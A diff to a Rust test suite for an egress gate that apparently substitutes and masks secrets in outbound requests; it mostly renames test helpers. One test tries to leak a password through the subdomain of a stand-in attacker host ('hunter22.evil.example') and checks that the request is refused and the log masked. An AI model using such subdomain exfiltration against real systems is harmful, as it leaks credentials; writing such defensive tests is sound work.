@@ -2,10 +2,10 @@
 
 use base64::Engine;
 use base64::engine::general_purpose::STANDARD;
-use konnector_egress::{Expect, HttpError, Request};
+use konnector_egress::{BodyFormat, HttpError, Request};
 
 use super::fixture::{Fixture, get, record, text};
-use super::server::{Server, Step, answer, ok, raw, redirect};
+use super::server::{ResponseStep, Server, ok, raw, redirect, response};
 
 const FORM: &str = "application/x-www-form-urlencoded";
 
@@ -26,14 +26,14 @@ async fn the_vendor_reads_the_value() {
 
     let form = Request::post(url(), "application/x-www-form-urlencoded", format!("u=me&p={word}"));
     session.send(form).await.unwrap();
-    assert_eq!(server.last().body, "u=me&p=p%C3%A4ss%26w%22ord");
+    assert_eq!(server.last_request().body, "u=me&p=p%C3%A4ss%26w%22ord");
 
     session.send(Request::post(url(), "application/json", format!(r#"{{"p":"{word}"}}"#))).await.unwrap();
-    assert_eq!(server.last().body, "{\"p\":\"p\u{e4}ss&w\\\"ord\"}");
+    assert_eq!(server.last_request().body, "{\"p\":\"p\u{e4}ss&w\\\"ord\"}");
 
     let basic = format!("Basic {}", STANDARD.encode(format!("me:{word}")));
     session.send(Request::get(url()).header("Authorization", &basic)).await.unwrap();
-    let sent = server.last().header("authorization").unwrap().to_owned();
+    let sent = server.last_request().header("authorization").unwrap().to_owned();
     assert_eq!(sent, format!("Basic {}", STANDARD.encode(format!("me:{VALUE}"))));
     assert!(session.secrets().mask(&sent).contains("[masked]"));
 }
@@ -62,9 +62,9 @@ async fn a_redirect_carries_it_only_to_a_named_host() {
 
     let session = fixture.allow(other.url("b.example", "")).session();
     session.send(form().header("X-Key", &format!("k {word}"))).await.unwrap();
-    let seen = other.last();
+    let seen = other.last_request();
     assert_eq!((seen.body.as_str(), seen.header("x-key")), ("p=p%C3%A4ss%26w%22ord", None));
-    assert!(server.last().header("x-key").is_some());
+    assert!(server.last_request().header("x-key").is_some());
 }
 
 /// An error that masked what the guest wrote would tell it which of its guesses are right.
@@ -111,7 +111,7 @@ async fn errors_behind_a_redirect_show_no_secret() {
 async fn a_guess_beside_the_secret_comes_back_as_it_is() {
     let server = Server::start(|seen| {
         let query = seen.body.split('&').find_map(|field| field.strip_prefix("q=")).unwrap_or_default();
-        answer(200, &[("Content-Type", "text/html"), ("X-Query", query)], format!("<p>{query}</p>"))
+        response(200, &[("Content-Type", "text/html"), ("X-Query", query)], format!("<p>{query}</p>"))
     })
     .await;
     let fixture = Fixture::new().allow(server.url("a.example", "")).secret("pin", "471100");
@@ -187,8 +187,8 @@ async fn guesses_beside_a_secret_that_is_shown_are_few() {
         let field = |name: &str| seen.body.split('&').find_map(|field| field.strip_prefix(name)).unwrap_or_default();
         match seen.target.as_str() {
             "/page" => ok(&format!("<p>{}</p>", field("p="))),
-            "/header" => answer(200, &[("X-Pin", field("p="))], ""),
-            "/cookie" => answer(200, &[("Set-Cookie", &format!("pin={}; Path=/", field("p=")))], ""),
+            "/header" => response(200, &[("X-Pin", field("p="))], ""),
+            "/cookie" => response(200, &[("Set-Cookie", &format!("pin={}; Path=/", field("p=")))], ""),
             "/redirect" => redirect(303, &format!("/?{}", field("p="))),
             "/own" => ok(field("q=")),
             _ => ok(""),
@@ -251,7 +251,7 @@ async fn the_size_of_headers_does_not_depend_on_the_value() {
         let mut seen = Vec::new();
         for value in ["hunter22".to_owned(), "a-much-longer-password".repeat(30)] {
             let server = Server::start(move |seen| {
-                answer(200, &[("X-Echo", &seen.body), ("X-Padding", &"x".repeat(padding))], "")
+                response(200, &[("X-Echo", &seen.body), ("X-Padding", &"x".repeat(padding))], "")
             })
             .await;
             let fixture = Fixture::new().allow(server.url("a.example", "")).secret("password", &value);
@@ -286,15 +286,15 @@ async fn a_page_in_any_spelling_shows_the_placeholder() {
     let server = Server::start(|seen| {
         let kind = |kind: &'static str| [("Content-Type", kind)];
         match seen.target.as_str() {
-            "/utf16" => answer(200, &kind("text/html; charset=utf-16le"), wide("<p>pw&\"/1234</p>")),
-            "/utf16-bytes" => answer(200, &kind("application/octet-stream"), wide("<p>pw&\"/1234</p>")),
-            "/json" => answer(200, &kind("application/json"), r#"{"p":"pw\u0026\"\/\u0031234"}"#),
-            "/html" => answer(200, &kind("text/html"), "<p title=\"pw&amp;&#34;&#x2F;&#0049;234\">"),
-            "/url" => answer(200, &kind("text/plain"), "/?q=pw%26%22/1234"),
+            "/utf16" => response(200, &kind("text/html; charset=utf-16le"), wide("<p>pw&\"/1234</p>")),
+            "/utf16-bytes" => response(200, &kind("application/octet-stream"), wide("<p>pw&\"/1234</p>")),
+            "/json" => response(200, &kind("application/json"), r#"{"p":"pw\u0026\"\/\u0031234"}"#),
+            "/html" => response(200, &kind("text/html"), "<p title=\"pw&amp;&#34;&#x2F;&#0049;234\">"),
+            "/url" => response(200, &kind("text/plain"), "/?q=pw%26%22/1234"),
             "/nested" => {
-                answer(200, &kind("text/html"), r#"<p data="{&quot;p&quot;:&quot;pw\u0026\&#34;\/1234&quot;}">"#)
+                response(200, &kind("text/html"), r#"<p data="{&quot;p&quot;:&quot;pw\u0026\&#34;\/1234&quot;}">"#)
             }
-            _ => answer(200, &kind("text/plain"), "pw&\"/1234"),
+            _ => response(200, &kind("text/plain"), "pw&\"/1234"),
         }
     })
     .await;
@@ -304,8 +304,8 @@ async fn a_page_in_any_spelling_shows_the_placeholder() {
     for path in ["/utf16", "/utf16-bytes", "/json", "/html", "/url", "/nested", "/"] {
         let form = Request::post(server.url("a.example", path), "text/plain", word.clone());
         let shown = match session.send(form).await.unwrap().body {
-            konnector_egress::Body::Text(text) => text,
-            konnector_egress::Body::Bytes(bytes) => String::from_utf8_lossy(&bytes).replace('\0', ""),
+            konnector_egress::DecodedBody::Text(text) => text,
+            konnector_egress::DecodedBody::Bytes(bytes) => String::from_utf8_lossy(&bytes).replace('\0', ""),
         };
         assert!(shown.contains(&word) && !shown.contains("234"), "{path}: {shown}");
     }
@@ -314,7 +314,7 @@ async fn a_page_in_any_spelling_shows_the_placeholder() {
 /// What the gate cannot read, it does not hand on.
 #[tokio::test]
 async fn a_body_that_stays_compressed_is_refused() {
-    let server = Server::start(|_| answer(200, &[("Content-Encoding", "x-unknown")], "hunter22")).await;
+    let server = Server::start(|_| response(200, &[("Content-Encoding", "x-unknown")], "hunter22")).await;
     let fixture = Fixture::new().allow(server.url("a.example", "")).secret("password", "hunter22");
     let word = fixture.secrets.placeholder("password").unwrap();
     let session = fixture.session();
@@ -344,14 +344,15 @@ async fn secrets_of_the_guest_uncover_nothing() {
 async fn a_bound_secret_goes_into_its_field() {
     let server = Server::start(|_| ok("")).await;
     let bindings = serde_json::json!({ "password": { "path": "/login", "methods": ["POST"], "fields": ["pwd"] } });
-    let fixture = Fixture::new().allow_bound(bindings, server.url("a.example", "")).secret("password", "hunter22");
+    let fixture =
+        Fixture::new().allow_secret_bindings(bindings, server.url("a.example", "")).secret("password", "hunter22");
     let word = fixture.secrets.placeholder("password").unwrap();
     let session = fixture.session();
     let post = |path: &str, body: String| {
         Request::post(server.url("a.example", path), "application/x-www-form-urlencoded", body)
     };
     session.send(post("/login", format!("u=me&pwd={word}"))).await.unwrap();
-    assert_eq!(server.last().body, "u=me&pwd=hunter22");
+    assert_eq!(server.last_request().body, "u=me&pwd=hunter22");
     for request in [
         post("/login", format!("q={word}")),
         post("/search", format!("pwd={word}")),
@@ -369,8 +370,8 @@ async fn a_bound_secret_goes_into_its_field() {
 async fn each_goes_to_the_hosts_that_the_manifest_names_for_it() {
     let (login, api) = (Server::start(|_| ok("")).await, Server::start(|_| ok("")).await);
     let fixture = Fixture::new()
-        .allow_with(&["password"], login.url("a.example", "/login"))
-        .allow_with(&["token"], api.url("b.example", ""))
+        .allow_secrets(&["password"], login.url("a.example", "/login"))
+        .allow_secrets(&["token"], api.url("b.example", ""))
         .allow(login.url("a.example", ""))
         .secret("password", "hunter22")
         .secret("token", "tokenvalue")
@@ -379,7 +380,7 @@ async fn each_goes_to_the_hosts_that_the_manifest_names_for_it() {
     let session = fixture.session();
     let post = async |server: &Server, host: &str, path: &str, body: String| {
         let request = Request::post(server.url(host, path), "application/x-www-form-urlencoded", body);
-        session.send(request).await.map(|_| server.last().body)
+        session.send(request).await.map(|_| server.last_request().body)
     };
     assert_eq!(post(&login, "a.example", "/login", word("password")).await.unwrap(), "hunter22");
     assert_eq!(post(&api, "b.example", "/", word("token")).await.unwrap(), "tokenvalue");
@@ -395,7 +396,7 @@ async fn each_goes_to_the_hosts_that_the_manifest_names_for_it() {
     }
     let error = post(&api, "b.example", "/", word("password")).await.unwrap_err();
     insta::assert_snapshot!(error.to_string().replace(&api.url("b.example", ""), "http://b.example"), @r#"the manifest sends the secret "password" with no POST to http://b.example; add to the rule that allows it: "secrets": ["password"]"#);
-    assert_eq!((login.seen().len(), api.seen().len()), (1, 1));
+    assert_eq!((login.requests().len(), api.requests().len()), (1, 1));
     let record = record(&session, &login.url("a.example", "/"));
     assert_eq!(
         (record.requests, record.denied, record.refusals["secret_not_bound"], record.secrets["password"]),
@@ -419,18 +420,18 @@ async fn an_answer_that_repeats_it_shows_the_placeholder() {
         let sent = seen.body.trim_start_matches("q=").to_owned();
         match seen.target.as_str() {
             "/search" => {
-                answer(200, &[("Content-Type", "text/html"), ("X-Query", &sent)], format!("<input value=\"{sent}\">"))
+                response(200, &[("Content-Type", "text/html"), ("X-Query", &sent)], format!("<input value=\"{sent}\">"))
             }
-            "/base64" => answer(200, &[("Content-Type", "text/plain")], STANDARD.encode(format!("you sent {sent}!"))),
-            "/binary" => answer(200, &[], [b"\xff\x00", sent.as_bytes(), b"\xff"].concat()),
+            "/base64" => response(200, &[("Content-Type", "text/plain")], STANDARD.encode(format!("you sent {sent}!"))),
+            "/binary" => response(200, &[], [b"\xff\x00", sent.as_bytes(), b"\xff"].concat()),
             "/slow" => {
                 let length =
                     format!("HTTP/1.1 200 X\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n", sent.len() + 2);
                 let bytes = format!("<{sent}>").into_bytes();
-                let drops = bytes
-                    .into_iter()
-                    .flat_map(|byte| [Step::Write(vec![byte]), Step::Wait(super::fixture::milliseconds(2))]);
-                [Step::Write(length.into_bytes())].into_iter().chain(drops).collect()
+                let drops = bytes.into_iter().flat_map(|byte| {
+                    [ResponseStep::Write(vec![byte]), ResponseStep::Wait(super::fixture::milliseconds(2))]
+                });
+                [ResponseStep::Write(length.into_bytes())].into_iter().chain(drops).collect()
             }
             "/elsewhere" => redirect(303, &format!("/profile?q={sent}")),
             _ => ok(&seen.target),
@@ -507,7 +508,7 @@ fn percent_encoding_of(written: &str) -> Vec<u8> {
 async fn a_value_in_the_encoding_of_its_form_is_hidden() {
     let server = Server::start(|seen| {
         let value = percent_encoding_of(seen.body.trim_start_matches("p="));
-        answer(200, &[], [b"<", &value[..], b">"].concat())
+        response(200, &[], [b"<", &value[..], b">"].concat())
     })
     .await;
     for charset in ["windows-1252", "iso-8859-10", "shift_jis", "iso-2022-jp", "gbk", "windows-874", "koi8-r", "utf-8"]
@@ -516,7 +517,7 @@ async fn a_value_in_the_encoding_of_its_form_is_hidden() {
             Fixture::new().allow(server.url("a.example", "")).secret("password", "h\u{fc}nter\u{3042}\u{266b}22");
         let word = fixture.secrets.placeholder("password").unwrap();
         let form = Request {
-            expect: Expect::Bytes,
+            body_format: BodyFormat::Bytes,
             form_charset: Some(charset.to_owned()),
             ..Request::post(server.url("a.example", "/"), FORM, format!("p={word}"))
         };
@@ -529,6 +530,6 @@ async fn a_receipt_holds_no_value() {
     let fixture = Fixture::new().allow("https://*.cdn.example").secret("password", "hunter22");
     let session = fixture.session();
     get(&session, "https://hunter22.evil.example/".to_owned()).await.unwrap_err();
-    let receipt = serde_json::to_string(&session.ledger()).unwrap();
+    let receipt = serde_json::to_string(&session.network_usage()).unwrap();
     assert!(receipt.contains("https://[masked].evil.example") && !receipt.contains("hunter22"), "{receipt}");
 }
